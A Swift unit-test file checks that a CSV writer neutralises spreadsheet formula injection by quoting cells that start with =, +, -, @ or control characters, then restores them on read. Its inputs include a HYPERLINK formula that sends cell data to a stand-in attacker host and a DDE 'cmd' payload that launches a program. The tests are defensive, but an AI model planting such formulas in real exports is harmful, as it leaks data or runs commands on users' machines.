import Testing
@testable import ClicktraxCore

/// Cells a spreadsheet would run as formulas are written with a leading quote and read back
/// exactly, whatever quotes the value itself starts with.
@Suite struct CSVFormulaGuardTests {
    static let values = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1", "-3", "@SUM(A1)", "\tx", "\rx", "'=x", "''+y",
                         "'plain", "plain", "", "'", "a=b", "Zürich"]

    @Test(arguments: values)
    func aValueSurvivesTheRoundTripAndNeverStartsAFormula(value: String) throws {
        let written = CSVFormulaGuard.neutralise(value)
        #expect(CSVFormulaGuard.restore(written) == value)
        if let first = written.first { #expect(!"=+-@\t\r".contains(first), "\(written.debugDescription)") }
    }

    @Test func theWriterAndTheReaderAgree() throws {
        let text = CSVWriter.line(["id", "name"]) + CSVWriter.line(["1", "=cmd|' /C calc'!A0"]) + CSVWriter.line(["2", "-5"])
        #expect(text.contains(",'=cmd|' /C calc'!A0\r\n"))
        var reader = CSVReader(text: text)
        _ = try reader.next()
        #expect(try reader.next()?.fields == ["1", "=cmd|' /C calc'!A0"])
        #expect(try reader.next()?.fields == ["2", "-5"])
    }
}
